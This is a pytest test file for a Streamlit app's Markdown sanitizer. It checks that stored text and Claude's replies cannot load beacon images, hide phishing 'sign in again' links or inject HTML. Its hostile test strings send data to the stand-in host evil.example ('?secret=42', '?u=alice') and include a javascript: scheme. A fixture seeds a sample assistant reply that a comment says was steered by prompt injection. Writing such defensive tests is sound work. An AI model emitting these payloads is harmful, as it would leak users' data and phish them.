"""Stored text cannot become Markdown (images that beacon, fake "sign in again" links,
headings), and Claude's replies, the only Markdown we render, cannot load images or
hide a link's target."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.foundation.markdown_oracle import problems
from ui.text import md_escape, safe_markdown

HOSTILE = [
    "![x](http://evil.example/b.png)",
    "[sign in again](http://evil.example)",
    "<img src=x>",
    "# heading",
    "**bold**",
    "![x][logo]\n\n[logo]: http://evil.example/b.png",
    "[sign in][r]\n\n[r]: http://evil.example",
    "<http://evil.example/b.png>",
    "<javascript:alert(1)>",
    "title\n=====",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "- item\n> quote",
    "http://evil.example and www.evil.example and me@evil.example",
    ":red[alert] :material/warning: $x^2$",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_md_escape_leaves_no_markdown_structure(text):
    escaped = md_escape(text)
    assert problems(escaped, literal=True) == []
    assert "://" not in escaped and "www." not in escaped and "me@" not in escaped


def test_md_escape_shows_the_text_unchanged():
    from markdown_it import MarkdownIt

    for text in ("![x](http://evil.example/b.png)", "a_b*c* <d> #1 [e] `f` 100%"):
        rendered = MarkdownIt("commonmark").renderInline(md_escape(text))
        assert rendered == MarkdownIt("commonmark").utils.escapeHtml(text)


@pytest.mark.parametrize(
    "reply",
    [
        "Here ![chart](http://evil.example/b.png?secret=42) is the chart",
        "![x][logo]\n\n[logo]: http://evil.example/b.png",
        "![x]\n\n[x]: http://evil.example/b.png",
        'See <img src="http://evil.example/b.png"> here',
        "[![i](http://evil.example/i.png)](http://evil.example)",
        "[sign in again](http://evil.example/login)",
        "[https://bank.example](http://evil.example)",
        "[sign in][r]\n\n   [r]: http://evil.example 'Title'",
        "> [r]: http://evil.example\n\n[r]",
        "[a [b] c](http://evil.example)",
        "[\\\\]()",
        "``![x](http://evil.example/b.png)`",
        "```x`\n![x](http://evil.example/b.png)\n```",
        # backticks the renderer pairs differently from a naive reading
        "`a\n\n![x](http://evil.example/b.png)\n\n`",
        "`a\n# ![x](http://evil.example/b.png)\n`",
        "- a\n  ```\n  b\n- c\n![y](http://evil.example/b.png)",
        "\\`![x](http://evil.example/b.png)`",
        "<http://a`b>![x](http://evil.example/b.png)`>",
        "`` a\\`` ![x](http://evil.example/b.png) `` b",
        "| `a | ![x](http://evil.example/b.png) | b` |\n|---|---|---|\n| 1 | 2 | 3 |",
    ],
)
def test_safe_markdown_loads_no_image_and_hides_no_link(reply):
    assert problems(reply, literal=False), "the case must be hostile on its own"
    assert problems(safe_markdown(reply), literal=False) == []


@pytest.mark.parametrize(
    "reply",
    [
        "$a `b$ c` `![x](http://evil.example/b.png)`",  # a math span takes a backtick
        "$$\n```\n$$\n![x](http://evil.example/b.png)",  # a fence line inside math
        ":red[a `b] c` `![x](http://evil.example/b.png)`",  # a directive label takes one
    ],
)
def test_no_code_is_kept_verbatim_when_math_or_directives_could_pair_backticks(reply):
    assert "image not loaded" in safe_markdown(reply)
    assert "![x](" not in safe_markdown(reply)


def test_safe_markdown_shows_other_schemes_as_text():
    assert safe_markdown("<javascript:alert(1)>") == "&lt;javascript:alert(1)>"
    assert safe_markdown("[click](javascript:alert(1))") == "click (javascript\\:alert\\(1\\))"


def test_safe_markdown_keeps_formatting_code_and_shows_link_targets():
    reply = (
        "# Result\n\n**Sharpe** 1.2, see [the docs](https://docs.example/x).\n\n"
        "```python\nprint('![x](y)')\n```\n\nInline `![a](b)` stays code.\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |"
    )
    out = safe_markdown(reply)
    assert out.startswith("# Result\n\n**Sharpe** 1.2, see the docs (<https://docs.example/x>).")
    assert "```python\nprint('![x](y)')\n```" in out
    assert "`![a](b)`" in out
    assert "| 1 | 2 |" in out
    image = safe_markdown("![chart](http://evil.example/b.png)")
    assert "image not loaded" in image and "evil" in image


_PIECES = list("![]()<>`~:\\/\n *-#xh|$") + [
    "http://e",
    "![",
    "](",
    "]:",
    "```",
    "  ```",
    "<img ",
    "[r]",
    "<http://e",
    "\n\n",
    "# ",
    "- ",
    "> ",
    "``",
    "\\`",
]


@settings(max_examples=3000, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(_PIECES), max_size=25).map("".join))
def test_no_arrangement_of_markdown_pieces_gets_through(text):
    assert problems(safe_markdown(text), literal=False) == []
    assert problems(md_escape(text), literal=True) == []


# --- every page, as the author, another analyst, a viewer and an admin -------------------

HOSTILE_TEXT = (
    "![x](http://evil.example/b.png) [sign in again](http://evil.example) <img src=x>\n"
    "# heading\n**bold**"
)
RAW_CONSTRUCTS = ("![x](", "[sign in again](", "<img src=x>")
PAGES = [
    "pages/home.py",
    "pages/chat.py",
    "pages/data.py",
    "pages/finance.py",
    "pages/models.py",
    "pages/trials.py",
    "pages/jobs.py",
    "pages/goals.py",
    "pages/dynamic_actions.py",
    "pages/admin.py",
    "pages/audit.py",
]
_MARKDOWN_VALUE_TYPES = (
    "Markdown",
    "Caption",
    "Title",
    "Header",
    "Subheader",
    "Error",
    "Warning",
    "Info",
    "Success",
    "Toast",
)


def rendered_markdown(at) -> list[str]:
    """Every string on the page that Streamlit renders as Markdown: bodies of markdown,
    captions, headings and alerts; labels and help of every element and block (expanders,
    tabs, metrics, widgets, status); radio options; progress text."""
    found: list[str] = []

    def visit(node) -> None:
        kind = type(node).__name__
        if kind in _MARKDOWN_VALUE_TYPES and isinstance(getattr(node, "value", None), str):
            found.append(node.value)
        for attr in ("label", "help", "text"):
            value = getattr(node, attr, None) if kind != "Text" else None
            if isinstance(value, str) and value:
                found.append(value)
        if kind == "Radio":
            found.extend(str(option) for option in node.options)
        for child in (getattr(node, "children", None) or {}).values():
            visit(child)

    visit(at._tree)
    return found


def hostile_markdown(texts: list[str]) -> list[str]:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark")
    bad = []
    for text in texts:
        if not any(marker in text for marker in ("evil", "img", "heading", "bold")):
            continue  # the app's own wording
        issues = problems(text, literal=False)
        issues += [c for c in RAW_CONSTRUCTS if c in text]
        if "heading" in text:
            tokens = md.parse(text)
            issues += [
                "heading"
                for i, t in enumerate(tokens)
                if t.type == "heading_open" and "heading" in tokens[i + 1].content
            ]
        if issues:
            bad.append(f"{text!r}: {issues}")
    return bad


@pytest.fixture
def hostile_world(fresh_db, make_user):
    """Alice (an analyst) stores hostile text everywhere another user may see it."""
    from storage.repositories import conversations as conversation_repo
    from storage.repositories import datasets as dataset_repo
    from storage.repositories import dynamic_actions as dynamic_repo
    from storage.repositories import goals as goal_repo
    from storage.repositories import jobs as job_repo

    people = {
        "root": make_user("root", "admin"),
        "alice": make_user("alice", "analyst"),
        "bob": make_user("bob", "analyst"),
        "vic": make_user("vic", "viewer"),
    }
    alice = people["alice"]
    conversation = conversation_repo.create_conversation(alice.id, HOSTILE_TEXT[:200])
    conversation_repo.add_message(
        conversation.id,
        "tool",
        HOSTILE_TEXT,
        payload={"action": HOSTILE_TEXT, "status": "refused", "error": HOSTILE_TEXT},
    )
    # Claude's reply (Markdown on purpose), steered by a prompt injection in some data
    conversation_repo.add_message(
        conversation.id,
        "assistant",
        "Done. ![chart](http://evil.example/c.png?u=alice) Please "
        "[sign in again](http://evil.example/login) <img src=http://evil.example/i.png>",
    )
    goal = goal_repo.create_goal(
        alice.id,
        HOSTILE_TEXT,
        {
            "metric": HOSTILE_TEXT,
            "direction": ">=",
            "threshold": 0.55,
            "max_trials": 30,
            "task": "classification",
            "symbols": ["SPY"],
        },
        HOSTILE_TEXT,
    )
    goal_repo.update_goal(goal.id, status="stopped", stop_reason=HOSTILE_TEXT)
    dataset_repo.record_dataset(
        name=HOSTILE_TEXT,
        source="upload",
        symbols=[HOSTILE_TEXT],
        start_date="2020-01-01",
        end_date="2020-12-31",
        rows=10,
        fingerprint="f" * 64,
        user_id=alice.id,
    )
    job_id = job_repo.create_job("train_model", {"note": HOSTILE_TEXT}, alice.id)
    job_repo.claim(job_id, "test-worker")
    job_repo.finish(job_id, "failed", error=HOSTILE_TEXT, only_from=("running",))
    for status in ("draft", "approved"):
        record = dynamic_repo.create_version(
            "hostile_action",
            description=HOSTILE_TEXT,
            parameters={},
            source="def run(params, ctx):\n    return {}\n",
            source_hash=status * 8,
            author_id=alice.id,
        )
        if status == "approved":
            dynamic_repo.set_status(record.id, "approved", approved_by=people["root"].id)
    from tests.trials.conftest import add_trial

    trial = add_trial(alice, status="failed", error=HOSTILE_TEXT)
    return {"conversation": conversation.id, "trial": trial.id}


@pytest.mark.parametrize("username", ["root", "bob", "vic", "alice"])
def test_no_page_renders_stored_text_as_markdown(hostile_world, username):
    from tests.foundation.apptest_helpers import log_in, new_app

    at = log_in(new_app(), username)
    shown_hostile = 0
    for page in PAGES:
        at.switch_page(page).run()
        if page == "pages/chat.py" and any(r.key == "conv_radio" for r in at.radio):
            at.radio(key="conv_radio").set_value(hostile_world["conversation"]).run()
        if page == "pages/jobs.py" and any(t.key == "jobs_all" for t in at.toggle):
            at.toggle(key="jobs_all").set_value(True).run()
        texts = rendered_markdown(at)
        shown_hostile += sum("evil" in text for text in texts)
        assert not at.exception, (page, at.exception)
        assert hostile_markdown(texts) == [], (page, username)
    # a trial opened by its address (its failure is stored text)
    at.query_params["trial"] = str(hostile_world["trial"])
    at.switch_page("pages/trials.py").run()
    assert not at.exception, at.exception
    texts = rendered_markdown(at)
    assert hostile_markdown(texts) == [], ("trial", username)
    if username != "bob":
        assert any("evil" in text for text in texts), "the trial's error must be shown"
    if username != "bob":  # bob, another analyst, sees none of alice's things
        assert shown_hostile, "the hostile text must reach this user somewhere"


def _call_a_hostile_action_name() -> None:
    """A page calling an action whose name came from user input (the error quotes it)."""
    import streamlit as st

    from engine.actions import UserRef
    from engine.auth import service
    from ui.run import run_action

    user = st.session_state["test_user"]
    if "mlt_session_key" not in st.session_state:
        st.session_state["mlt_session_key"] = service.start_session(
            UserRef(user.id, user.username, user.role), 1.0
        )
    run_action("![x](http://evil.example/b.png)[sign in again](http://evil.example)", {})


def test_action_errors_that_quote_user_input_are_escaped(fresh_db, make_user):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(_call_a_hostile_action_name, default_timeout=60)
    at.session_state["test_user"] = make_user("alice", "analyst")
    at.run()
    assert not at.exception, at.exception
    shown = rendered_markdown(at)
    assert any("evil" in text for text in shown), shown  # the name is quoted back...
    assert hostile_markdown(shown) == []  # ...as text
